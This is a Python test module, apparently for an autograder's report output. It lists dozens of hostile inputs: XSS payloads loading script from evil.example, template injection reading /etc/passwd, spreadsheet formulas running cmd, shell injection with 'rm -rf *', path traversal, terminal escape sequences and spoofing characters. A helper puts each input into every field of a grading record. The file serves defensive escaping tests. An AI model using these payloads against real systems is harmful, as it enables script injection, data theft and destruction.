"""Texts that want to be more than text, and a record that has one in every field."""

from __future__ import annotations

from autograder.records import CellRecord, FaultRecord, Record, Verdict
from tests.report.conftest import make_check, make_question, make_record

HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script end": "</script><script src=//evil.example/x.js></script>",
    "onerror": "<img src=x onerror=alert(1)>",
    "attribute double": '" onmouseover="alert(1)" x="',
    "attribute single": "' onfocus='alert(1)' autofocus='",
    "attribute bare": "x onload=alert(1) y",
    "svg": "<svg onload=alert(1)><animate onbegin=alert(1) attributeName=x></svg>",
    "style end": "</style><script>alert(1)</script><style>",
    "title end": "</title><script>alert(1)</script><title>",
    "style import": "<style>@import 'http://evil.example/a.css';</style>",
    "javascript link": "<a href=javascript:alert(1)>look</a>",
    "javascript alone": "javascript:alert(1)//",
    "data link": "data:text/html,<script>alert(1)</script>",
    "iframe": "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "meta refresh": "<meta http-equiv=refresh content='0;url=http://evil.example'>",
    "base": "<base href=http://evil.example/>",
    "form": "<form action=http://evil.example><input name=a autofocus></form>",
    "object": "<object data=x></object><embed src=x>",
    "comment": "<!-- --!> <script>alert(1)</script> -->",
    "cdata": "<![CDATA[<script>alert(1)</script>]]>",
    "instruction": "<?xml version='1.0'?><!DOCTYPE html>",
    "template": "{{ 7 * 7 }}{% include '/etc/passwd' %}{# x #}",
    "template attack": "{{ ''.__class__.__mro__ }}",
    "entity": "&lt;script&gt;alert(1)&lt;/script&gt;&#60;b&#62;",
    "entity without end": "&lt&ltscript&#x3c",
    "closing everything": "</bdi></p></li></ul></article></main></body></html><b>",
    "bidi": "abc\u202egnp.exe\u2066\u2069\u202d",
    "nul": "a\x00b<\x00script>\x00",
    "ansi": "\x1b[31mred\x1b[0m \x1b[2J done",
    "clipboard": "\x1b]52;c;ZWNobyBoaQ==\x07pasted",
    "title escape": "\x1b]0;owned\x1b\\shell",
    "single-byte escape": "x\x9b31mred\x9d0;owned\x9c",
    "escape unfinished": "\x1b]8;;http://evil.example",
    "controls": "bell\x07back\x08\x08del\x7fvt\x0bff\x0c",
    "formula": '=HYPERLINK("http://evil.example";"look")',
    "formula plus": "+1+cmd|' /C calc'!A0",
    "formula minus": "-2+3",
    "formula at": "@SUM(1+9)*cmd|' /C calc'!A0",
    "formula tab": "\t=1+1",
    "formula return": "\r=1+1",
    "formula after separator": "x;=1+1",
    "formula full width": "\uff1d1+1",
    "path": "../../../../etc/passwd",
    "path windows": "..\\..\\CON.html",
    "path absolute": "/etc/cron.d/x",
    "option": "-rf",
    "shell": "$(touch /x) `touch` ; rm -rf *",
    "line separators": "one\u2028two\u2029three\x85four",
    "half a surrogate": "x\ud800y",
    "invisible": "ad\u200bmin\ufeff\U000e0041",
    "zalgo": "Z" + "\u0335\u0322\u0321" * 60,
    "long": "A" * 100_000,
    "script by a slash": "<script/x>alert(1)</script/x>",
    "toggle": "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "stylesheet link": "<link rel=stylesheet href=//evil.example/a.css>",
    "preload": "<link rel=preload as=image href=//evil.example/x.png>",
    "text field": "</textarea><textarea autofocus onfocus=alert(1)>",
    "media": "<video autoplay><source src=//evil.example/x.mp4 onerror=alert(1)></video>",
    "without script": "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img src=x onerror=alert(1)>",
    "use elsewhere": "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)/>#x'/></svg>",
    "seven bits": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "ends of everything": "\"'`--></title></style></textarea></script><script>alert(1)</script>",
}


def hostile_record(text: str) -> Record:
    """Returns a record with the text in every field that holds one."""
    checks = [
        make_check(verdict, name=text, message=text, misconception=misconception, hidden=True)
        for verdict in Verdict
        for misconception in (None, text)
    ]
    return make_record(
        text,
        make_question(text, *checks, title=text, given=(text, text)),
        make_question(text, make_check(name=text), title=text),
        make_question(text, title=text, points=2.0, manual=True, response=text),
        make_question(
            text, points=2.0, title=text, manual=True, marked=True, response=text, comment=text
        ),
        assignment=text,
        title=text,
        source=text,
        submission_sha256=text,
        bundle_sha256=text,
        isolation=text,
        submitted_at=text,
        late_seconds=90.0,
        late_percent=10.0,
        group=(text, f"x{text}"),
        versions={text: text},
        faults=(FaultRecord(text, text), FaultRecord("SubmissionFault", text)),
        cells=(
            CellRecord(3, 0.1, text, text),
            CellRecord(4, 0.1, f"ValueError: {text}", text),
            CellRecord(5, 0.1, f"timed out: {text}", f"other {text}"),
        ),
    )
